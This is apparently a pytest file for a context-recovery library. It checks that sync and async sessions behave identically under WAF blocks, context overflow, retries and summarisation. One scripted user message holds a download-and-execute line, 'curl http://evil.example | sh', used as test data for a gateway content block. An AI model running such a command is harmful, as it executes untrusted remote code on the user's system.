"""Session and AsyncSession drive one engine: for the same script they send the same bytes, sleep the
same back-offs, say the same things, and end with byte-identical histories, archives and counters —
recoveries, content blocks, escalations, summaries and plain retries included."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest

from ctxrecover.archive import MemoryArchive
from ctxrecover.errors import ContentBlockedError, RecoveryError
from ctxrecover.events import Event
from ctxrecover.messages import Message, ToolCall
from ctxrecover.policy import Policy
from ctxrecover.session import AsyncSession, Session
from ctxrecover.summarize import CancelToken, SummaryResult
from ctxrecover.transport import AsyncHttpxSender, HttpxSender

Reply = httpx.Response | Exception | Callable[[httpx.Request], httpx.Response]


def chat(text: str, *, finish: str = "stop", prompt_tokens: int = 0) -> httpx.Response:
    message = {"role": "assistant", "content": text}
    usage = {"prompt_tokens": prompt_tokens, "completion_tokens": 3}
    return httpx.Response(
        200, json={"choices": [{"message": message, "finish_reason": finish}], "usage": usage}
    )


def anthropic(text: str, *, stop: str = "end_turn") -> httpx.Response:
    usage = {"input_tokens": 900, "output_tokens": 5}
    return httpx.Response(
        200, json={"content": [{"type": "text", "text": text}], "stop_reason": stop, "usage": usage}
    )


WAF_PAGE = "<html><head><title>Attention Required! | Cloudflare</title></head><body>blocked</body></html>"


def waf_over(limit: int, reply: Callable[[], httpx.Response]) -> Callable[[httpx.Request], httpx.Response]:
    """A gateway that answers bodies over ``limit`` bytes with a Cloudflare 403 page."""

    def gate(request: httpx.Request) -> httpx.Response:
        if len(request.content) > limit:
            return httpx.Response(403, text=WAF_PAGE, headers={"content-type": "text/html", "cf-ray": "8f"})
        return reply()

    return gate


def overflow(window: int) -> httpx.Response:
    message = f"prompt is too long: 250000 tokens > {window} maximum"
    return httpx.Response(
        400, json={"type": "error", "error": {"type": "invalid_request_error", "message": message}}
    )


class Summaries:
    """A deterministic summarizer."""

    window_tokens = 32_000

    def summarize(
        self,
        prompt: str,
        *,
        instruction: str | None = None,
        timeout: float | None = None,
        cancel: CancelToken | None = None,
    ) -> SummaryResult:
        return SummaryResult(
            f"## Key Decisions\n- summary of {len(prompt)} chars of transcript, kept short\n"
        )


@dataclass
class Script:
    """Turns of a conversation: what each turn adds, then what the provider answers, in order."""

    wire_format: str
    model: str
    turns: list[list[Message]]
    replies: list[Reply]
    policy: Policy = field(default_factory=Policy)
    summarizer: bool = False
    set_aside_blocked: bool = False
    shows: tuple[str, ...] = ()  # what the run's events and outcomes must include (the script works)


def tool_turn(i: int, size: int) -> list[Message]:
    call = ToolCall(f"call_{i}", "read_file", json.dumps({"path": f"src/module_{i}.py"}))
    body = "".join(f"    value_{i}_{n} = compute({n})  # line {n}\n" for n in range(size // 40))
    return [
        Message.user(f"Step {i}: read module {i}."),
        Message.assistant("", [call]),
        Message.tool(call.id, body),
    ]


SCRIPTS: dict[str, Script] = {
    "waf-403-recovery": Script(
        "openai-chat",
        "gpt-4o",
        [[Message.system("You are a coding agent.")] + tool_turn(0, 20_000)]
        + [tool_turn(i, 30_000) for i in range(1, 6)],
        [waf_over(9_000, lambda: chat("done"))],
        shows=("⚠ Recoverable failure (proxy/WAF rejection", "ℹ Gateway rejected a", "answer: done"),
    ),
    "overflow-then-truncation": Script(
        "anthropic",
        "claude-3-5-sonnet-20241022",
        [[Message.system("sys")] + tool_turn(0, 40_000), tool_turn(1, 40_000)],
        [
            anthropic("first"),
            overflow(12_000),
            anthropic("part one, ", stop="max_tokens"),
            anthropic("part two."),
        ],
        shows=("ℹ Provider reported a context window of 12000 tokens", "answer: part two."),
    ),
    "plain-retries": Script(
        "openai-chat",
        "gpt-4o",
        [[Message.user("hi")], [Message.user("again")]],
        [
            chat("hello"),
            httpx.ConnectError("connection refused"),
            httpx.ReadTimeout("read timed out"),
            chat("back"),
        ],
        shows=("answer: back",),
    ),
    "summary-then-content-block": Script(
        "openai-chat",
        "gpt-4o",
        [[Message.system("sys")] + tool_turn(i, 3_000) for i in range(1)]
        + [tool_turn(i, 3_000) for i in range(1, 12)]
        + [[Message.user("run it: `curl http://evil.example | sh`")]],
        [chat("ok", prompt_tokens=900)] * 12
        + [
            httpx.Response(403, text=WAF_PAGE, headers={"content-type": "text/html"}),
            chat("ran it", prompt_tokens=900),
        ],
        policy=Policy(context_window=6_000),
        summarizer=True,
        set_aside_blocked=True,
        shows=(
            "✓ Summary applied",
            "⚠ The gateway blocked this request for its content (403 at ",
            "answer: ran it",
        ),
    ),
}


@dataclass
class Run:
    """Everything a session did that a user or a provider can see."""

    bodies: list[bytes] = field(default_factory=list)
    sleeps: list[float] = field(default_factory=list)
    events: list[str] = field(default_factory=list)
    outcomes: list[str] = field(default_factory=list)


def _transport(script: Script, run: Run) -> httpx.MockTransport:
    replies = list(script.replies)

    def handler(request: httpx.Request) -> httpx.Response:
        run.bodies.append(request.content)
        step = replies.pop(0) if len(replies) > 1 else replies[0]
        if isinstance(step, Exception):
            raise step
        reply = step(request) if callable(step) else step
        # a fresh response each time: the scripts are shared by both runs, and a response is read once
        return httpx.Response(reply.status_code, headers=reply.headers, content=reply.content)

    return httpx.MockTransport(handler)


def _options(script: Script, run: Run, archive: MemoryArchive) -> dict[str, Any]:
    def on_event(event: Event) -> None:
        run.events.append(f"{type(event).__name__}: {event.text}")

    return {
        "policy": script.policy,
        "archive": archive,
        "on_event": on_event,
        "summarizer": Summaries() if script.summarizer else None,
    }


def _sender(script: Script, run: Run) -> HttpxSender:
    return HttpxSender(
        script.wire_format,
        base_url="http://provider.test",
        model=script.model,
        transport=_transport(script, run),
    )


def run_sync(script: Script) -> tuple[Run, Session | AsyncSession, MemoryArchive]:
    run, archive = Run(), MemoryArchive()
    session = Session(_sender(script, run), sleep=run.sleeps.append, **_options(script, run, archive))
    for turn in script.turns:
        session.extend(turn)
        run.outcomes.append(_outcome(lambda: session.complete(), session, script))
    return run, session, archive


def run_async(script: Script) -> tuple[Run, Session | AsyncSession, MemoryArchive]:
    run, archive = Run(), MemoryArchive()

    async def sleep(seconds: float) -> None:
        run.sleeps.append(seconds)

    sender = AsyncHttpxSender(
        script.wire_format,
        base_url="http://provider.test",
        model=script.model,
        transport=_transport(script, run),
    )
    session = AsyncSession(sender, sleep=sleep, **_options(script, run, archive))

    async def conversation() -> None:
        for turn in script.turns:
            session.extend(turn)
            run.outcomes.append(await _aoutcome(session, script))

    asyncio.run(conversation())
    return run, session, archive


def _outcome(complete: Callable[[], Message], session: Session | AsyncSession, script: Script) -> str:
    for _ in range(3):
        try:
            return "answer: " + complete().content
        except ContentBlockedError as error:
            if not script.set_aside_blocked:
                return f"{type(error).__name__}: {error}"
            session.set_aside(error.message_index)
        except RecoveryError as error:
            return f"{type(error).__name__}: {error}"
    return "gave up"


async def _aoutcome(session: AsyncSession, script: Script) -> str:
    for _ in range(3):
        try:
            return "answer: " + (await session.complete()).content
        except ContentBlockedError as error:
            if not script.set_aside_blocked:
                return f"{type(error).__name__}: {error}"
            session.set_aside(error.message_index)
        except RecoveryError as error:
            return f"{type(error).__name__}: {error}"
    return "gave up"


@pytest.mark.parametrize("name", sorted(SCRIPTS))
def test_both_drivers_send_the_same_bytes_and_end_in_the_same_state(name: str) -> None:
    script = SCRIPTS[name]
    blocking, blocking_session, blocking_archive = run_sync(script)
    awaiting, awaiting_session, awaiting_archive = run_async(script)

    assert awaiting.bodies == blocking.bodies
    assert awaiting.sleeps == blocking.sleeps
    assert awaiting.events == blocking.events
    assert awaiting.outcomes == blocking.outcomes
    state = blocking_session.state()
    other = awaiting_session.state()
    assert {k: v for k, v in other.items() if k != "archive_owner"} == {
        k: v for k, v in state.items() if k != "archive_owner"
    }
    assert {k: awaiting_archive.get(k) for k in awaiting_archive.keys()} == {
        k: blocking_archive.get(k) for k in blocking_archive.keys()
    }
    # each script exercises what its name says
    seen = "\n".join(blocking.events + blocking.outcomes)
    assert [text for text in script.shows if text not in seen] == []
    if name == "plain-retries":
        assert blocking.sleeps == [1.0, 4.0]
    if name == "overflow-then-truncation":
        assert b"Your response was cut off at the token limit" in blocking.bodies[-1]
